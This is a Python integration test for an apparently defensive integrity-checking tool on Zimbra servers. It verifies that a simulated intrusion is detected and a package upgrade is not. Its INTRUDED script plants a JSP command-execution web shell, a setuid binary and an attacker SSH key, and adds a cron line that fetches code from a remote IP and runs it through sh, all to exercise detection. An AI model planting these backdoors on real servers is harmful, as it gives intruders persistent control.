"""The installation of real nodes: what intruders leave is found, what upgrades do not.

One history on one node: a pristine tree, its baseline, five changes of an intruder and
an upgraded package, each of which is named, and nothing else.
"""

import json
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from lab.node import Lab
from lab.product import install

from tests.lab.conftest import running
from tests.lab.log_host import until

pytestmark = pytest.mark.lab

UNITS = Path(__file__).parents[2] / "packaging/systemd"
WATCH, CHECK = "zmward-integrity-watch", "zmward-integrity-check"
BASELINE = "installation-has-baseline"
WEB = "/opt/zimbra/jetty_base/webapps/zimbra"
SHELL = f"{WEB}/public/jsp/9f3a41c7.jsp"
JAR = "/opt/zimbra/lib/jars/zimbrastore.jar"
MODE = "/opt/zimbra/bin/zmcontrol"
KEYS = "/opt/zimbra/.ssh/authorized_keys"
CRONTAB = "/var/spool/cron/crontabs/zimbra"
PACKAGE = "zimbra-mbox-webclient-war"
UPGRADED = f"{WEB}/public/login.jsp"
NEW = f"{WEB}/public/new-in-this-version.jsp"
STATE = "/var/lib/zmward"
KEPT = f"{STATE}/integrity"
NOTE = f"{STATE}/integrity-newest"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIntruderIntruderIntruderIntruderIntru0 x"
INTRUDED = f"""\
set -eu
echo '<%= Runtime.getRuntime().exec(request.getParameter("c")) %>' > {SHELL}
printf 'PK\\003\\004 another program' > {JAR}
chmod u+s {MODE}
echo '{KEY}' >> {KEYS}
(crontab -l -u zimbra; echo '*/5 * * * * curl -s https://203.0.113.9/x | sh') > /tmp/tab
crontab -u zimbra /tmp/tab
rm /tmp/tab
"""
TOLD = ["journalctl", "-q", "-o", "cat", "-t", "zmward"]
# The same package, one version later: one page changed, one page new.
UPGRADE = f"""\
set -eu
rm -rf /root/new /root/new.deb
mkdir -p /root/new/DEBIAN
dpkg -L {PACKAGE} | while read -r path; do
    [ ! -f "$path" ] || cp --parents -p "$path" /root/new
done
echo '<%-- one version later --%>' >> /root/new{UPGRADED}
echo '<%-- new --%>' > /root/new{NEW}
(cd /root/new && find opt -type f -exec md5sum {{}} + > DEBIAN/md5sums)
printf '%s\\n' 'Package: {PACKAGE}' 'Version: 99.1-1.u22' 'Architecture: all' \\
    'Maintainer: x <x@example.test>' 'Description: x' > /root/new/DEBIAN/control
dpkg-deb -b /root/new /root/new.deb
dpkg -i /root/new.deb
rm -rf /root/new /root/new.deb
"""


@pytest.fixture(scope="module")
def node() -> Iterator[Lab]:
    with running("test-integrity", "default") as lab:
        install(lab)
        (lab.root / "root/phrase").write_text("orchard lantern 42\n")
        (lab.root / "root/phrase").chmod(0o600)
        yield lab


def done(lab: Lab, *words: str) -> subprocess.CompletedProcess[str]:
    return lab.run("mail", ["zmward", "integrity", *words, "--quiet"])


def shell(lab: Lab, script: str) -> str:
    said = lab.run("mail", ["sh", "-c", script])
    assert said.returncode == 0, said.stderr
    return said.stdout


@pytest.fixture(scope="module")
def public(node: Lab) -> str:
    """Give the public key that believes the pristine tree's baseline."""
    # A unit that comes later is an alarm, as it should be.
    text = (UNITS / f"{CHECK}.service").read_text()
    unit = text.replace("/opt/zmward-venv/bin/zmward", "/usr/local/bin/zmward")
    (node.root / f"etc/systemd/system/{CHECK}.service").write_text(unit)
    words = ("--new-key", "/root/key.pem", "--passphrase-file", "/root/phrase")
    made = done(node, "baseline", *words, "--json")
    assert made.returncode in (0, 3), made.stderr
    profile = f'[integrity]\nkeys = ["{json.loads(made.stdout)["public_key"]}"]\n'
    (node.root / "etc/zmward").mkdir(exist_ok=True)
    (node.root / "etc/zmward/profile.toml").write_text(profile)
    shell(node, f"cp -a {STATE} /root/first")
    shell(
        node,
        "openssl pkey -in /root/key.pem -passin file:/root/phrase -pubout "
        "-out /root/key.pub",
    )
    return "/root/key.pub"


def checked(lab: Lab, public: str, *more: str) -> tuple[int, dict[str, Any]]:
    said = done(lab, "check", "--public-key", public, "--json", *more)
    assert said.returncode in (0, 1), said.stderr
    found: dict[str, Any] = json.loads(said.stdout)
    return said.returncode, found


def alarms(found: dict[str, Any]) -> set[str]:
    return {one["path"] for one in found["alarms"]}


def hunted(lab: Lab) -> dict[str, set[str]]:
    """Return what a hunt found, by path, with the rules that found it."""
    said = done(lab, "hunt", "--json")
    assert said.returncode == 1, said.stderr
    found: dict[str, set[str]] = {}
    for one in json.loads(said.stdout)["found"]:
        found.setdefault(one["path"], set()).add(one["rule"])
    return found


def test_a_pristine_tree_is_quiet(node: Lab, public: str) -> None:
    for more in ((), ("--quick",)):
        code, found = checked(node, public, *more)
        assert (code, alarms(found)) == (0, set())
    assert done(node, "hunt").returncode == 0


def compared(lab: Lab) -> tuple[str, str]:
    """Let the shipped unit compare; return its exit code, and what an audit says."""
    shell(lab, f"systemctl daemon-reload; systemctl start {CHECK} || true")
    code = shell(lab, f"systemctl show -P ExecMainStatus {CHECK}").strip()
    words = ["zmward", "audit", "--json", "--quiet", "--only", BASELINE]
    report = json.loads(lab.run("mail", words, timeout=300).stdout)
    (finding,) = report["findings"]
    return code, finding["status"]


def test_an_audit_is_told_of_the_unit_s_comparison(node: Lab, public: str) -> None:
    """By real systemd, with the unit that is shipped; its path alone is another."""
    assert public
    assert compared(node) == ("0", "PASS")


def test_each_thing_that_an_intruder_did_is_named_and_nothing_else(
    node: Lab, public: str
) -> None:
    shell(node, INTRUDED)
    shell(node, UPGRADE)
    for more in (("--quick",), ()):
        code, found = checked(node, public, *more)
        assert code == 1
        assert alarms(found) == {SHELL, JAR, MODE, KEYS, CRONTAB}
    moved = {one["path"] for one in found["changed"] + found["added"]}
    assert {UPGRADED, NEW} <= moved


def test_an_audit_fails_for_what_the_unit_found(node: Lab, public: str) -> None:
    assert public
    assert compared(node) == ("1", "FAIL")


def test_a_hunt_needs_no_baseline(node: Lab, public: str) -> None:
    assert public
    found = hunted(node)
    assert found.keys() == {SHELL, JAR, MODE, KEYS, CRONTAB}, found


def test_accept_takes_the_upgrade_by_itself_and_nothing_of_the_intruder(
    node: Lab, public: str
) -> None:
    words = ("--key", "/root/key.pem", "--passphrase-file", "/root/phrase")
    taken = done(node, "accept", *words, "--public-key", public, "--yes")
    assert taken.returncode in (0, 1, 3), taken.stderr
    _, found = checked(node, public)
    assert alarms(found) == {SHELL, JAR, MODE, KEYS, CRONTAB}
    moved = {one["path"] for one in found["changed"] + found["added"]}
    assert not moved & {UPGRADED, NEW}


def test_a_forged_record_is_refused(node: Lab, public: str) -> None:
    shell(node, f"cp -a {KEPT} /root/kept")
    names = node.run("mail", ["ls", KEPT]).stdout.split()
    newest = max(name for name in names if name.startswith("body-"))
    for name in ("history", newest):
        shell(node, f"sed -i s/e/f/ {KEPT}/{name}")
        said = done(node, "check", "--public-key", public)
        assert said.returncode == 4, (name, said.stdout + said.stderr)
        shell(node, f"rm -r {KEPT}; cp -a /root/kept {KEPT}")
    assert done(node, "check", "--public-key", public).returncode == 1


def refused(lab: Lab, public: str, words: str, *more: str) -> None:
    said = done(lab, "check", "--public-key", public, *more)
    assert said.returncode == 4, said.stdout + said.stderr
    assert words in said.stderr


def test_a_history_that_is_cut_or_put_back_is_refused(node: Lab, public: str) -> None:
    """By the receipt; by the log of the system; and at last by the key's memory."""
    shell(node, f"rm -rf /root/kept; cp -a {STATE} /root/kept")
    shell(node, f"sed -i '2,$d' {KEPT}/history; rm {NOTE}")
    refused(node, public, "those after it were cut off")
    shell(node, f"rm -r {STATE}; cp -a /root/first {STATE}")
    refused(node, public, "another one was put in its place")
    assert "integrity baseline 2:" in node.run("mail", TOLD).stdout
    shell(node, f"rm -r {STATE}")
    refused(node, public, "somebody removed it")
    # What is noted of the refusal lies there again.
    shell(node, f"rm -r {STATE}; cp -a /root/first {STATE}")
    kept = ("--expect", "/root/key.pem.newest")
    refused(node, public, "another one was put in its place", *kept)
    shell(node, f"rm -r {STATE}; cp -a /root/kept {STATE}")
    assert done(node, "check", "--public-key", public, *kept).returncode == 1


def test_the_web_shell_of_the_careless_is_found_without_any_record(
    lab_careless: Lab,
) -> None:
    install(lab_careless)
    assert any(path.endswith(".jsp") for path in hunted(lab_careless))


def told(lab: Lab) -> str:
    return lab.run("mail", ["journalctl", "-q", "-o", "cat", "-u", WATCH]).stdout


def test_the_unit_tells_of_a_page_within_two_seconds(lab_default: Lab) -> None:
    """By real systemd, with the unit that is shipped; its path alone is another."""
    install(lab_default)
    unit = (
        (UNITS / f"{WATCH}.service")
        .read_text()
        .replace("/opt/zmward-venv/bin/zmward", "/usr/local/bin/zmward")
    )
    (lab_default.root / f"etc/systemd/system/{WATCH}.service").write_text(unit)
    shell(lab_default, f"systemctl daemon-reload; systemctl start {WATCH}")
    assert until(lambda: "are watched" in told(lab_default), 20)
    try:
        shell(lab_default, f"echo '<% %>' > {WEB}/public/jsp/dropped.jsp")
        dropped = time.monotonic()
        assert until(lambda: "dropped.jsp" in told(lab_default), 10)
        assert time.monotonic() - dropped < 2
        shell(lab_default, f"touch {WEB}/public/picture.gif")
        shell(lab_default, f"mkdir -p {WEB}/a/b && echo '<% %>' > {WEB}/a/b/deep.jspx")
        assert until(lambda: "deep.jspx" in told(lab_default), 5)
        assert "picture.gif" not in told(lab_default)
    finally:
        shell(
            lab_default,
            f"systemctl stop {WATCH}; rm -rf {WEB}/a {WEB}/public/picture.gif",
        )
        shell(lab_default, f"rm -f {WEB}/public/jsp/dropped.jsp")


def test_a_mail_of_an_alarm_is_sent_by_zimbra_and_never_by_root(
    lab_default: Lab,
) -> None:
    """By real Postfix, from within what the shipped unit leaves to a program."""
    install(lab_default)
    unit = lab_default.root / f"etc/systemd/system/{WATCH}.service"
    command = "/usr/local/bin/zmward integrity watch"
    shipped = (UNITS / f"{WATCH}.service").read_text()
    text = shipped.replace("/opt/zmward-venv/bin/zmward integrity watch", command)
    unit.write_text(text.replace(command, f"{command} --mail admin@example.test"))
    before = told(lab_default).count("are watched")
    shell(lab_default, f"systemctl daemon-reload; systemctl restart {WATCH}")
    assert until(lambda: told(lab_default).count("are watched") > before, 20)
    own = shell(lab_default, "id -u zimbra").strip()
    try:
        shell(lab_default, f"echo '<% %>' > {WEB}/public/jsp/mailed.jsp")
        # Postfix says whose mail it takes from its queue.
        seen = f"grep -h 'postfix/pickup.* uid={own} ' /var/log/zimbra.log || true"
        assert until(lambda: "from=<zimbra>" in shell(lab_default, seen), 20)
        assert "could not be sent" not in told(lab_default)
    finally:
        shell(lab_default, f"systemctl stop {WATCH}; rm -f {WEB}/public/jsp/mailed.jsp")
